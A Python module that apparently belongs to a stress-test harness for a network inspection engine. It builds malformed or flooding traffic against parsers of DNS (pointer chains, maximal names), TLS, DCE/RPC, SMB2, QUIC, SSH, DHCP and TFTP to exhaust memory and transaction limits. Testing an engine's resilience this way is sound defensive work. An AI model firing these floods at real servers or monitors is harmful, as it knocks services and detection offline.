"""Attacks on the parsers of DNS, TLS, SMB, DCE/RPC, QUIC, SSH, DHCP and TFTP."""
import struct

from . import FLOW, STREAM, attack
from .wire import SERVER, address

LONG = b''.join(b'\x3f' + bytes([97 + n]) * 63 for n in range(3)) + b'\x3d' + b'd' * 61 + b'\0'


def dns(ident, flags, counts, rest):
    return struct.pack('>HHHHHH', ident & 0xffff, flags, *counts) + rest


def query(ident, name=b'\x01a\x07example\0'):
    return dns(ident, 0x100, (1, 0, 0, 0), name + b'\0\1\0\1')


@attack('dns-pointers', caps=FLOW)
def dns_pointers(wire):
    """answers whose records all point to a name of 255 bytes"""
    n = 0
    while not wire.full:
        n += 1
        wire.udp(query(n, LONG), sport=40000, dport=53)
        record = b'\xc0\x0c\0\5\0\1\0\0\0\1\0\2\xc0\x0c'
        answer = dns(n, 0x8180, (1, 70, 0, 0), LONG + b'\0\1\0\1' + record * 70)
        wire.udp(answer, src=SERVER, dst=address(0x0a000001), sport=53, dport=40000)


@attack('dns-pointer-chains', caps=FLOW)
def dns_pointer_chains(wire):
    """names that are pointers to pointers to pointers"""
    chain = b'\x01a\0' + b''.join(struct.pack('>H', 0xc000 | (12 + (0 if n == 0 else 3 + 2 * (n - 1)))) for n in range(300))
    n = 0
    while not wire.full:
        n += 1
        # The questions' names are looked up from the end of the chain.
        wire.udp(dns(n, 0x100, (60, 0, 0, 0), chain + b'\xc2\x50\0\1\0\1' * 60), sport=40000, dport=53)


@attack('dns-queries', caps=FLOW)
def dns_queries(wire):
    """lookups of one flow that nobody answers"""
    n = 0
    while not wire.full:
        n += 1
        wire.udp(query(n), sport=40000, dport=53)


@attack('dns-over-tcp', caps=STREAM)
def dns_over_tcp(wire):
    """the shortest lookups, dozens in a segment, which nobody answers"""
    n = 0
    while not wire.full:
        c = wire.connect(53)
        for _ in range(20):
            messages = b''
            for _ in range(60):
                n += 1
                q = query(n, b'\0')
                messages += struct.pack('>H', len(q)) + q
            c.say(0, messages)


def record(kind, data):
    return struct.pack('>BHH', kind, 0x303, len(data)) + data


def hello():
    ciphers = b''.join(struct.pack('>H', 0xc000 + n) for n in range(20))
    name = b'www.example.org'
    extensions = struct.pack('>HHHBH', 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    body = b'\3\3' + bytes(32) + b'\0' + struct.pack('>H', len(ciphers)) + ciphers + b'\1\0' + \
        struct.pack('>H', len(extensions)) + extensions
    return b'\1' + struct.pack('>I', len(body))[1:] + body


@attack('tls-records', caps=STREAM)
def tls_records(wire):
    """records of one byte, before anything is encrypted and after"""
    while not wire.full:
        c = wire.connect(443)
        c.say(0, b''.join(record(22, bytes([b])) for b in hello()))
        server = b'\2\0\0\x46\3\3' + bytes(32) + b'\x20' + bytes(32) + b'\xc0\x2f\0'
        c.say(1, record(22, server) + record(22, b'\x0e\0\0\0'))
        for _ in range(20):
            c.say(0, record(23, b'x') * 230)


@attack('tls-hellos', caps=STREAM)
def tls_hellos(wire):
    """the same greeting again and again on one connection"""
    while not wire.full:
        c = wire.connect(443)
        for _ in range(20):
            c.say(0, record(22, hello()) * 8)


@attack('tls-alerts', caps=STREAM)
def tls_alerts(wire):
    """nothing but warnings"""
    while not wire.full:
        c = wire.connect(443)
        c.say(0, record(22, hello()))
        for _ in range(20):
            c.say(0, record(21, b'\1\0') * 200)


def pdu(kind, flags, call, rest):
    return struct.pack('<BBBB', 5, 0, kind, flags) + b'\x10\0\0\0' + struct.pack('<HHI', 16 + len(rest), 0, call) + rest


def bind(contexts):
    each = struct.pack('<HBB', 0, 1, 0) + bytes(range(16)) + b'\1\0\0\0' + bytes(range(16)) + b'\2\0\0\0'
    return pdu(11, 3, 1, struct.pack('<HHIBBH', 4280, 4280, 0, contexts, 0, 0) + each * contexts)


@attack('dcerpc-open-calls', counters=['app_layer.memcap'], caps=STREAM)
def dcerpc_open_calls(wire):
    """as many calls as may be open at a time, a fragment for each in turn"""
    while not wire.full:
        c = wire.connect(135)
        c.say(0, bind(1))
        c.say(1, pdu(12, 3, 1, bytes(40)))
        for flags in [1] + [0] * 4:
            for first in range(2, 1026, 32):
                c.say(0, b''.join(pdu(0, flags, call, struct.pack('<IHH', 8, 0, 1) + b'stub') for call in range(first, first + 32)))


@attack('dcerpc-binds', caps=STREAM)
def dcerpc_binds(wire):
    """binds with as many contexts as fit"""
    while not wire.full:
        c = wire.connect(135)
        for _ in range(20):
            c.say(0, bind(90))


def smb2(command, message, body, tree=1, session=1):
    head = b'\xfeSMB' + struct.pack('<HHIHHIIQIIQ', 64, 1, 0, command, 1, 0, 0, message, 0, tree, session) + bytes(16)
    return struct.pack('>I', len(head) + len(body)) + head + body


def negotiate():
    return smb2(0, 0, struct.pack('<HHHHI', 36, 1, 1, 0, 0) + bytes(16) + bytes(8) + b'\2\2', 0, 0)


def create(message, name):
    name = name.encode('utf-16-le')
    return smb2(5, message, struct.pack('<HBBIQQIIIIIHHII', 57, 0, 0, 0, 0, 0, 0x12019f, 0, 7, 1, 0, 120, len(name), 0, 0) + name)


@attack('smb-open-files', counters=['app_layer.tx_limit'], caps=STREAM)
def smb_open_files(wire):
    """files that are asked to be opened by the thousand, which nobody answers"""
    while not wire.full:
        c = wire.connect(445)
        c.say(0, negotiate())
        for n in range(1, 4000, 8):
            c.say(0, b''.join(create(m, f'f{m}') for m in range(n, n + 8)))
            if wire.full:
                break


@attack('smb-writes', caps=STREAM)
def smb_writes(wire):
    """writes of one byte, each to another file and place"""
    while not wire.full:
        c = wire.connect(445)
        c.say(0, negotiate())
        for n in range(1, 4000, 8):
            data = b''
            for m in range(n, n + 8):
                data += smb2(9, m, struct.pack('<HHIQ', 49, 112, 1, m * 7919 % 100_000) + struct.pack('<QQ', m % 600, m % 600) +
                             bytes(16) + b'w')
            c.say(0, data)
            if wire.full:
                break


@attack('quic-initials', caps=FLOW)
def quic_initials(wire):
    """short packets that begin a connection, each of another one, for which keys are to be derived"""
    while not wire.full:
        ident = wire.draw.getrandbits(64).to_bytes(8, 'big')
        payload = wire.draw.getrandbits(320).to_bytes(40, 'big')
        packet = b'\xc3\0\0\0\1\x08' + ident + b'\0\0' + struct.pack('>H', 0x4000 | len(payload)) + payload
        wire.udp(packet, address(0x0a000000 + wire.draw.getrandbits(8)), SERVER, 1024 + wire.draw.getrandbits(6), 443)


@attack('ssh-lines', caps=STREAM)
def ssh_lines(wire):
    """lines before the banner, and key exchanges again and again after it"""
    while not wire.full:
        c = wire.connect(22)
        c.say(1, b'line\r\n' * 60 + b'SSH-2.0-a\r\n')
        c.say(0, b'SSH-2.0-a\r\n')
        body = b'\x14' + bytes(16) + b''.join(struct.pack('>I', 300) + b'a,' * 149 + b'aa' for _ in range(10)) + bytes(5)
        message = struct.pack('>IB', len(body) + 5, 4) + body + bytes(4)
        for _ in range(10):
            c.say(0, message)


@attack('dhcp-options', caps=FLOW)
def dhcp_options(wire):
    """messages full of options of no length"""
    head = b'\1\1\6\0' + bytes(4) + bytes(20) + b'\2\0\0\0\0\1' + bytes(10) + bytes(192) + b'\x63\x82\x53\x63'
    n = 0
    while not wire.full:
        n += 1
        options = b'\x35\1\1' + bytes([50, 0]) * 500 if n % 2 else b'\x35\1\1' + b'\x37\xff' + bytes(range(255)) * 4
        wire.udp(head[:4] + struct.pack('>I', n) + head[8:] + options[:1100], sport=68, dport=67)


@attack('tftp-requests', caps=FLOW)
def tftp_requests(wire):
    """requests for files, each from another port"""
    n = 0
    while not wire.full:
        n += 1
        wire.udp(b'\0\1f%d\0octet\0' % n, sport=1024 + n % 60000, dport=69)
